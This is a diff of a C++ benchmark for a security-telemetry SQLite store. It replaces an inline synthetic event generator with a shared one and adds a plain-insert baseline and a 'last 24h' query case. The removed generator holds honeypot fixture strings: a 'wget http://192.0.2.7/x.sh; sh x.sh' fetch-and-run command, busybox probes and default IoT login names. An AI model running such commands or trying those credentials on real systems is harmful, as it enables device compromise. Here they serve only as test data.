@@ -19,9 +19,12 @@
 #include <vector>
 
 #include <fmt/format.h>
+#include <sqlite3.h>
 
 #include "common/prefix.h"
+#include "event_mix.h"
 #include "store/dashboard_reader.h"
+#include "store/event_row.h"
 #include "store/sqlite_store.h"
 
 namespace {
@@ -32,93 +35,52 @@ using Clock = std::chrono::steady_clock;
 constexpr Timestamp kDay = int64_t{24} * 3600 * kMicrosPerSecond;
 constexpr Timestamp kEnd = 1'796'083'200'000'000; // the month ends on a day boundary
 constexpr Timestamp kBegin = kEnd - 30 * kDay;
+constexpr int64_t kFillBatch = 100'000; // events per transaction, as a busy live sink commits
 
-std::string v4(uint32_t a) {
-    return fmt::format("{}.{}.{}.{}", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255);
-}
-
-/// One event of the month's mix: half scans (500k sources, skewed), 30% port statistics (2,000 ports),
-/// the rest honeypot logins, commands, sessions, and a few attacks, samples and alerts.
-Event makeEvent(std::mt19937_64& rng, Timestamp ts) {
-    static const char* kTools[] = {"mirai", "mirai", "mirai", "zmap", "masscan", "nmap", "unknown", "unknown"};
-    static const char* kUsers[] = {"root", "admin", "user", "support", "guest", "ubnt", "pi", "test"};
-    static const char* kCommands[] = {"enable",
-                                      "system",
-                                      "shell",
-                                      "sh",
-                                      "cat /proc/mounts; /bin/busybox ECCHI",
-                                      "cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh",
-                                      "uname -a",
-                                      "free -m"};
-    const uint64_t r = rng();
-    const uint64_t dice = r % 1000;
-    // Sources: a skewed draw (a few very busy scanners, a long tail) in 100.64.0.0/10-like space.
-    const uint32_t source =
-        0x64400000u + static_cast<uint32_t>(std::min<uint64_t>((r >> 20) % 500000, (r >> 40) % 500000));
-    Event e;
-    e.ts = ts;
-    e.sensor = "bench";
-    if (dice < 500) {
-        e.type = "darknet.scan";
-        const int port = (r >> 8) % 4 == 0 ? static_cast<int>((r >> 12) % 65535) + 1 : ((r >> 12) % 2 ? 23 : 445);
-        const int64_t packets = static_cast<int64_t>((r >> 30) % 5000) + 1;
-        e.add("src", v4(source));
-        e.add("proto", "tcp");
-        e.add("packets", packets);
-        e.add("dst_count", packets);
-        e.add("port_count", 1);
-        e.add("dst_ports", nlohmann::ordered_json::array({{{"port", port}, {"packets", packets}}}));
-        e.add("tool", kTools[(r >> 50) % 8]);
-        e.add("scan_kind", "horizontal");
-        e.add("spoofed", false);
-    } else if (dice < 800) {
-        e.type = "darknet.port_stats";
-        e.add("proto", "tcp");
-        e.add("port", static_cast<int>((r >> 8) % 2000) + 1);
-        e.add("minute", formatRfc3339(ts - ts % 60'000'000));
-        e.add("packets", static_cast<int64_t>((r >> 30) % 1000));
-        e.add("sources", static_cast<int64_t>((r >> 40) % 50));
-    } else if (dice < 880) {
-        e.type = "honeypot.login";
-        e.add("session", fmt::format("{:016x}", r));
-        e.add("src", v4(source));
-        e.add("src_port", 40000);
-        e.add("dst_port", 2323);
-        e.add("protocol", "telnet");
-        e.add("username", kUsers[(r >> 8) % 8]);
-        e.add("password", kUsers[(r >> 16) % 8]);
-        e.add("success", (r >> 24) % 10 == 0);
-    } else if (dice < 940) {
-        e.type = "honeypot.command";
-        e.add("session", fmt::format("{:016x}", r));
-        e.add("src", v4(source));
-        e.add("dst_port", 2323);
-        e.add("protocol", "telnet");
-        e.add("input", kCommands[(r >> 8) % 8]);
-    } else if (dice < 990) {
-        e.type = "honeypot.session";
-        e.add("session", fmt::format("{:016x}", r));
-        e.add("src", v4(source));
-        e.add("dst_port", 2323);
-        e.add("protocol", "telnet");
-        e.add("close_reason", "peer_closed");
-    } else if (dice < 995) {
-        e.type = "ddos.attack";
-        e.add("victim", v4(0xC6120000u + static_cast<uint32_t>((r >> 8) % 65536)));
-        e.add("vector", "syn_flood");
-        e.add("packets", 1000);
-        e.add("ports", nlohmann::ordered_json::array({{{"port", 80}, {"packets", 1000}}}));
-    } else if (dice < 998) {
-        e.type = "sample";
-        e.add("sha256", fmt::format("{:064x}", r));
-        e.add("size", 1000);
-    } else {
-        e.type = "alert";
-        e.add("kind", "darknet.outbreak");
-        e.add("severity", "medium");
-        e.add("subject", "tcp/23");
+/// The baseline of the fill: the same events' rows (the store's own JSON line and columns) put into a
+/// bare table with one prepared INSERT in transactions of the same size, no index, trigger or rollup.
+/// Events per second.
+double plainInsertRate(const std::string& path, int64_t events) {
+    std::filesystem::remove(path);
+    sqlite3* db = nullptr;
+    if (sqlite3_open(path.c_str(), &db) != SQLITE_OK) {
+        return 0;
     }
-    return e;
+    sqlite3_exec(db,
+                 "PRAGMA journal_mode = WAL; PRAGMA synchronous = NORMAL; CREATE TABLE events (id INTEGER PRIMARY "
+                 "KEY, type TEXT NOT NULL, ts BIGINT NOT NULL, sensor TEXT NOT NULL, subject TEXT, body TEXT NOT NULL)",
+                 nullptr, nullptr, nullptr);
+    sqlite3_stmt* insert = nullptr;
+    sqlite3_prepare_v2(db, "INSERT INTO events (type, ts, sensor, subject, body) VALUES (?, ?, ?, ?, ?)", -1, &insert,
+                       nullptr);
+    std::mt19937_64 rng(13);
+    const auto started = Clock::now();
+    for (int64_t done = 0; done < events;) {
+        sqlite3_exec(db, "BEGIN", nullptr, nullptr, nullptr);
+        for (int64_t i = 0; i < kFillBatch && done < events; ++i, ++done) {
+            const store::EventRow row =
+                store::toEventRow(bench::dashboardMixEvent(rng, kBegin + (kEnd - kBegin) / events * done));
+            sqlite3_bind_text(insert, 1, row.type.c_str(), -1, SQLITE_STATIC);
+            sqlite3_bind_int64(insert, 2, row.ts);
+            sqlite3_bind_text(insert, 3, row.sensor.c_str(), -1, SQLITE_STATIC);
+            if (row.subject) {
+                sqlite3_bind_text(insert, 4, row.subject->c_str(), -1, SQLITE_STATIC);
+            } else {
+                sqlite3_bind_null(insert, 4);
+            }
+            sqlite3_bind_text(insert, 5, row.body.c_str(), static_cast<int>(row.body.size()), SQLITE_STATIC);
+            sqlite3_step(insert);
+            sqlite3_reset(insert);
+        }
+        sqlite3_exec(db, "COMMIT", nullptr, nullptr, nullptr);
+    }
+    const double seconds = std::chrono::duration<double>(Clock::now() - started).count();
+    sqlite3_finalize(insert);
+    sqlite3_close(db);
+    std::filesystem::remove(path);
+    std::filesystem::remove(path + "-wal");
+    std::filesystem::remove(path + "-shm");
+    return static_cast<double>(events) / seconds;
 }
 
 double median(std::vector<double> v) {
@@ -171,15 +133,14 @@ int main(int argc, char** argv) {
         }
         std::mt19937_64 rng(13);
         const auto started = Clock::now();
-        constexpr int64_t kBatch = 100'000;
         for (int64_t done = 0; done < events;) {
             if (!store.begin()) {
                 return fail("begin failed");
             }
-            for (int64_t i = 0; i < kBatch && done < events; ++i, ++done) {
+            for (int64_t i = 0; i < kFillBatch && done < events; ++i, ++done) {
                 // Time order, as the sink writes: the month spread evenly.
                 const Timestamp ts = kBegin + (kEnd - kBegin) / events * done;
-                if (auto appended = store.append(makeEvent(rng, ts)); !appended) {
+                if (auto appended = store.append(bench::dashboardMixEvent(rng, ts)); !appended) {
                     return fail(appended.error().message);
                 }
             }
@@ -191,8 +152,12 @@ int main(int argc, char** argv) {
             }
         }
         const double seconds = std::chrono::duration<double>(Clock::now() - started).count();
-        std::printf("fill: %lld events in %.1f s (%.0f events/s, triggers and indexes of migration 0006 included)\n",
-                    static_cast<long long>(events), seconds, static_cast<double>(events) / seconds);
+        const double rate = static_cast<double>(events) / seconds;
+        // The baseline in the same run, over the first million events (or all, if fewer).
+        const double baseline = plainInsertRate(db + ".baseline", std::min<int64_t>(events, 1'000'000));
+        std::printf("fill: %lld events in %.1f s: %.0f events/s through SqliteStore (indexes and rollups included); "
+                    "baseline plain prepared inserts %.0f events/s; ratio %.2f\n",
+                    static_cast<long long>(events), seconds, rate, baseline, baseline > 0 ? rate / baseline : 0.0);
         stored = static_cast<uint64_t>(events);
     }
     std::printf("database: %s, %llu events, %.0f MiB\n", db.c_str(), static_cast<unsigned long long>(*stored),
@@ -210,8 +175,12 @@ int main(int argc, char** argv) {
     };
     std::vector<Case> cases;
     const auto prefix = *Prefix::parse("100.64.0.0/16");
-    for (const auto& [label, range] : {std::pair{std::string("day"), store::TimeRange{kEnd - kDay, kEnd}},
-                                       std::pair{std::string("month"), store::TimeRange{kBegin, kEnd}}}) {
+    // "last 24h" as the dashboard asks it at 23:23 (not on an hour), a calendar day, and the month.
+    constexpr Timestamp kOffHour = 37 * 60 * kMicrosPerSecond;
+    for (const auto& [label, range] :
+         {std::pair{std::string("last 24h"), store::TimeRange{kEnd - kDay - kOffHour, kEnd - kOffHour}},
+          std::pair{std::string("day"), store::TimeRange{kEnd - kDay, kEnd}},
+          std::pair{std::string("month"), store::TimeRange{kBegin, kEnd}}}) {
         cases.push_back({"overview/" + label, 200, [&r, range] {
                              return r.countsByType(range, nullptr) && r.distinctSources(range, nullptr) &&
                                     r.probeTotals(range) && r.infectedHostCount(range, nullptr);
